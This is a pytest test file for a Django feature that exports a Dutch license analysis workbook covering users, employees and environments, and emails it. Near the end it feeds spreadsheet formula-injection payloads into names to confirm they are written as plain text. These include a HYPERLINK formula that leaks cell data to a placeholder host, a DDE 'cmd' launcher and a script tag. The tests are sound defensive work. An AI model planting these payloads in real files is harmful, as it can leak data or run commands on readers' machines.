"""The license analysis workbook, read back with openpyxl."""

import io
import re
import uuid
import zipfile

import pytest
from django.core import mail
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import translation
from openpyxl import load_workbook

from licensing.analysis.delivery import send_analysis
from licensing.analysis.workbook import build_workbook
from tests.factories import (
    ClientFactory,
    DeclarationFactory,
    EmployeeFactory,
    EnvironmentFactory,
    EnvironmentUserFactory,
    LicenseLineFactory,
)

pytestmark = pytest.mark.django_db


def workbook_of(customer):
    output = io.BytesIO()
    build_workbook(customer=customer, output=output)
    output.seek(0)
    return load_workbook(output)


def rows_of(sheet, header_row=1):
    rows = [list(row) for row in sheet.iter_rows(min_row=header_row, values_only=True)]
    header, body = rows[0], rows[1:]
    return [dict(zip(header, row, strict=True)) for row in body]


def users_by_code(workbook):
    return {row["Gebruikerscode"].lower(): row for row in rows_of(workbook["Gebruikers"])}


@pytest.fixture
def two_productions(customer_a):
    a = EnvironmentFactory(customer=customer_a, type="O", code="O12345AA")
    b = EnvironmentFactory(customer=customer_a, type="O", code="O12345AB")
    for code in ("Susan", "John", "Martin"):
        EnvironmentUserFactory(environment=a, code=code)
    for code in ("SUSAN", "Bart", "Pascal"):
        EnvironmentUserFactory(environment=b, code=code)
    return a, b


def test_it_writes_one_row_per_unique_user_with_case_variants_merged(customer_a, two_productions):
    users = users_by_code(workbook_of(customer_a))

    assert sorted(users) == ["bart", "john", "martin", "pascal", "susan"]


def test_it_marks_susan_in_both_environments_and_the_others_in_one(customer_a, two_productions):
    users = users_by_code(workbook_of(customer_a))

    assert (users["susan"]["O12345AA"], users["susan"]["O12345AB"]) == ("P", "P")
    assert (users["john"]["O12345AA"], users["john"]["O12345AB"]) == ("P", None)
    assert (users["bart"]["O12345AA"], users["bart"]["O12345AB"]) == (None, "P")
    assert all(row["Telt op Productie"] == "Profit" for row in users.values())
    assert all("Telt op Test" not in row for row in users.values())  # no test environment, no column


def test_it_combines_access_letters_and_counts_each_item(customer_a, two_productions):
    a, _b = two_productions
    EnvironmentUserFactory(environment=a, code="anna", profit=True, insite=True, outsite=True)

    anna = users_by_code(workbook_of(customer_a))["anna"]

    assert anna["O12345AA"] == "P I O"
    assert anna["Telt op Productie"] == "Profit, InSite, OutSite"


def test_a_user_blocked_everywhere_is_marked_and_does_not_count(customer_a, two_productions):
    a, _b = two_productions
    EnvironmentUserFactory(environment=a, code="kees", blocked=True)

    kees = users_by_code(workbook_of(customer_a))["kees"]

    assert kees["O12345AA"] == "P, geblokkeerd"
    assert kees["Telt op Productie"] is None


def test_a_user_blocked_in_one_environment_but_active_in_another_of_the_type_still_counts(
    customer_a, two_productions
):
    a, b = two_productions
    EnvironmentUserFactory(environment=a, code="els", blocked=True, insite=True)
    EnvironmentUserFactory(environment=b, code="Els", insite=False)

    els = users_by_code(workbook_of(customer_a))["els"]

    assert els["O12345AA"] == "P I, geblokkeerd"
    assert els["O12345AB"] == "P"
    assert els["Telt op Productie"] == "Profit"


def test_a_coworker_is_marked_and_never_counts(customer_a, two_productions):
    a, _b = two_productions
    EnvironmentUserFactory(environment=a, code="accountant", kind="coworker", insite=True)

    accountant = users_by_code(workbook_of(customer_a))["accountant"]

    assert accountant["O12345AA"] == "P I, meewerkgebruiker"
    assert accountant["Telt op Productie"] is None


def test_each_environment_type_counts_on_its_own_scope(customer_a, two_productions):
    test = EnvironmentFactory(customer=customer_a, type="T", code="T12345AA")
    EnvironmentUserFactory(environment=test, code="susan", profit=False, insite=True)

    susan = users_by_code(workbook_of(customer_a))["susan"]

    assert susan["T12345AA"] == "I"
    assert susan["Telt op Productie"] == "Profit"
    assert susan["Telt op Test"] == "InSite"


def test_decommissioned_environments_have_no_user_column_but_are_listed(customer_a, two_productions):
    old = EnvironmentFactory(customer=customer_a, type="O", code="O12345AZ", is_active=False)
    EnvironmentUserFactory(environment=old, code="ghost")

    workbook = workbook_of(customer_a)
    users = users_by_code(workbook)
    environments = {row["Omgevingscode"]: row for row in rows_of(workbook["Omgevingen"])}

    assert "ghost" not in users
    assert "O12345AZ" not in [cell.value for cell in workbook["Gebruikers"][1]]
    assert environments["O12345AZ"]["Actief"] == "nee"
    assert environments["O12345AA"]["Actief"] == "ja"


def test_it_has_the_sheets_with_dutch_headers_frozen_and_filtered(customer_a, two_productions):
    workbook = workbook_of(customer_a)

    assert workbook.sheetnames == ["Uitleg", "Licentiedata", "Gebruikers", "Medewerkers", "Omgevingen"]
    users = workbook["Gebruikers"]
    assert [cell.value for cell in users[1]] == [
        "Gebruikerscode",
        "Naam",
        "O12345AA",
        "O12345AB",
        "Telt op Productie",
    ]
    assert users.freeze_panes == "B2"
    assert users.auto_filter.ref == "A1:E6"
    assert users.column_dimensions["A"].width == 24
    # No employees here: a name column nobody fills is left out.
    assert [cell.value for cell in workbook["Medewerkers"][1]] == ["In dienst", "Omgevingen", "GUID"]
    assert workbook["Omgevingen"]["A1"].value == "Omgevingscode"
    assert workbook["Omgevingen"].freeze_panes == "A2"


def test_the_license_sheet_shows_the_report_with_customer_and_count_time(customer_a, two_productions):
    LicenseLineFactory(license=customer_a.license, item="profit_users", scope="O", maximum=4, in_use=5)
    LicenseLineFactory(license=customer_a.license, item="environments", scope="license", maximum=3, portal=4)

    sheet = workbook_of(customer_a)["Licentiedata"]
    lines = rows_of(sheet, header_row=4)

    assert sheet["B1"].value == "12345"
    assert sheet["A2"].value == "Geteld op"
    assert sheet.freeze_panes == "A5"
    assert lines == [
        {
            "Onderdeel": "Omgevingen",
            "Bereik": "Licentie",
            "Maximum": 3,
            "Portaalaantal": 4,
            "In gebruik": 0,
            "Beschikbaar": 3,
            "Niveau": "In orde",
            "Afwijking": "ja",
        },
        {
            "Onderdeel": "Profit-gebruikers",
            "Bereik": "Productie",
            "Maximum": 4,
            "Portaalaantal": 4,
            "In gebruik": 5,
            "Beschikbaar": -1,
            "Niveau": "Overschreden",
            "Afwijking": None,
        },
    ]


@pytest.mark.parametrize(
    ("language", "header", "levels"),
    [("nl", "Niveau", ["Vol", "Bijna vol"]), ("en", "Level", ["Full", "Almost full"])],
)
def test_the_license_sheet_names_each_level_in_the_readers_language(customer_a, language, header, levels):
    LicenseLineFactory(license=customer_a.license, item="profit_users", scope="O", maximum=4, in_use=4)
    LicenseLineFactory(license=customer_a.license, item="profit_users", scope="T", maximum=10, in_use=9)

    with translation.override(language):
        lines = rows_of(workbook_of(customer_a).worksheets[1], header_row=4)

    assert [line[header] for line in lines] == levels


def test_it_lists_each_employee_once_with_its_environments(customer_a, two_productions):
    a, b = two_productions
    guid = uuid.uuid4()
    EmployeeFactory(environment=a, guid=guid, name="J. Jansen", in_service=False)
    EmployeeFactory(environment=b, guid=guid, name="J. Jansen", in_service=True)
    gone = EmployeeFactory(environment=a, name="P. Weg", in_service=False)

    employees = {row["GUID"]: row for row in rows_of(workbook_of(customer_a)["Medewerkers"])}

    assert len(employees) == 2
    assert employees[str(guid)]["In dienst"] == "ja"
    assert employees[str(guid)]["Omgevingen"] == "O12345AA (uit dienst), O12345AB"
    assert employees[str(gone.guid)]["In dienst"] == "nee"


def test_the_environments_sheet_counts_per_environment(customer_a, two_productions):
    a, _b = two_productions
    EnvironmentUserFactory(environment=a, code="kees", blocked=True)
    EnvironmentUserFactory(environment=a, code="accountant", kind="coworker")
    EmployeeFactory(environment=a)
    DeclarationFactory(environment=a)
    ClientFactory(environment=a)

    environments = {row["Omgevingscode"]: row for row in rows_of(workbook_of(customer_a)["Omgevingen"])}
    row = environments["O12345AA"]

    assert (row["Gebruikers"], row["Profit-gebruikers"], row["Geblokkeerd"], row["Meewerkgebruikers"]) == (
        5,
        3,
        1,
        1,
    )
    assert (row["Medewerkers in dienst"], row["Aangiften"], row["Cliënten"]) == (1, 1, 1)
    assert row["Type"] == "Productie"


def test_it_shows_nothing_of_another_customer(customer_a, customer_b, two_productions):
    other = EnvironmentFactory(customer=customer_b, type="O", code="O67890AA")
    EnvironmentUserFactory(environment=other, code="stranger")

    workbook = workbook_of(customer_a)

    assert "stranger" not in users_by_code(workbook)
    assert "O67890AA" not in [row["Omgevingscode"] for row in rows_of(workbook["Omgevingen"])]


def test_the_number_of_queries_does_not_grow_with_users(customer_a, two_productions):
    a, b = two_productions

    def queries_for_build():
        with CaptureQueriesContext(connection) as context:
            build_workbook(customer=customer_a, output=io.BytesIO())
        return len(context.captured_queries)

    few = queries_for_build()
    for n in range(45):
        EnvironmentUserFactory(environment=a if n % 2 else b, code=f"extra{n}")
        EmployeeFactory(environment=a)

    assert queries_for_build() == few
    assert few <= 16  # four of them are the EXISTS probes that leave out empty columns


def test_license_report_writes_the_workbook_as_xlsx(customer_a, two_productions, tmp_path):
    path = tmp_path / "analyse.xlsx"

    call_command("license_report", "12345", "--format", "xlsx", "--output", str(path), stderr=io.StringIO())

    assert sorted(users_by_code(load_workbook(path))) == ["bart", "john", "martin", "pascal", "susan"]


def test_license_report_needs_an_output_file_for_xlsx(customer_a):
    with pytest.raises(CommandError, match="--output"):
        call_command("license_report", "12345", "--format", "xlsx", stdout=io.StringIO())


# Legal names (DESIGN.md) that a spreadsheet would run as a formula, or that are HTML.
HOSTILE_TEXTS = [
    '=HYPERLINK("http://example.com/?leak="&A1,"klik")',
    "=1+1",
    "+31 20 123 4567",
    "-2+3",
    "@SUM(A1:A2)",
    "\tJ. Jansen",
    "\rJ. Jansen",
    "#REF!",
    "#N/A",
    "<script>alert(1)</script>",
]


@pytest.fixture
def hostile_names(customer_a):
    customer_a.name = "=1+1 BV"
    customer_a.save()
    environment = EnvironmentFactory(customer=customer_a, type="O", code="O12345AA", name="=cmd|'/c calc'!A1")
    for position, text in enumerate(HOSTILE_TEXTS):
        EnvironmentUserFactory(environment=environment, code=f"={position}+{position}", name=text, email="")
        EmployeeFactory(environment=environment, name=text)
    return environment


def all_cells(workbook):
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_text_that_looks_like_a_formula_is_written_as_a_text_cell(customer_a, hostile_names):
    workbook = workbook_of(customer_a)

    cells = all_cells(workbook)
    assert [cell.coordinate for cell in cells if cell.data_type in ("f", "e")] == []
    texts = {cell.value: cell.data_type for cell in cells if isinstance(cell.value, str)}
    for text in [*HOSTILE_TEXTS, "=1+1 BV", "=cmd|'/c calc'!A1", "=0+0", "=9+9"]:
        assert texts[text] == "s", text
    users = rows_of(workbook["Gebruikers"])
    assert sorted(row["Naam"] for row in users) == sorted(HOSTILE_TEXTS)


def test_the_sheets_hold_no_formula_element_and_html_only_escaped(customer_a, hostile_names):
    output = io.BytesIO()
    build_workbook(customer=customer_a, output=output)

    with zipfile.ZipFile(output) as archive:
        sheets = [
            archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")
        ]

    assert len(sheets) == 5
    for xml in sheets:
        assert not re.search(r"<f[ >/]", xml)
    users = sheets[2]
    assert "<script>" not in users
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in users
    assert "<t>=HYPERLINK(" in users


def test_characters_that_xml_cannot_hold_are_replaced_instead_of_failing(customer_a):
    # Stored before the snapshot validator refused them, or typed into the back office.
    environment = EnvironmentFactory(customer=customer_a, type="O", code="O12345AA", name="Omgeving\x01")
    EnvironmentUserFactory(environment=environment, code="kees", name="K.\x01\x1b Kees\ufffe")

    workbook = workbook_of(customer_a)

    assert users_by_code(workbook)["kees"]["Naam"] == "K.\ufffd\ufffd Kees\ufffd"
    assert rows_of(workbook["Omgevingen"])[0]["Omschrijving"] == "Omgeving\ufffd"


def test_the_emailed_analysis_is_plain_text_with_the_names_as_text_cells(
    customer_a, beheerder, hostile_names
):
    beheerder.name = "<b>Beheerder</b>"
    beheerder.save()

    assert send_analysis(contact_id=beheerder.id, customer_id=customer_a.id) is True

    (message,) = mail.outbox
    # Plain text: nothing there is HTML, so it is written as it is, not entity-escaped.
    assert message.content_subtype == "plain"
    assert getattr(message, "alternatives", []) == []
    assert message.body.startswith("Beste <b>Beheerder</b>,")
    assert "=1+1 BV" in message.body
    (_filename, content, _mimetype) = message.attachments[0]
    workbook = load_workbook(io.BytesIO(content))
    assert [cell.coordinate for cell in all_cells(workbook) if cell.data_type in ("f", "e")] == []
    assert sorted(row["Naam"] for row in rows_of(workbook["Gebruikers"])) == sorted(HOSTILE_TEXTS)
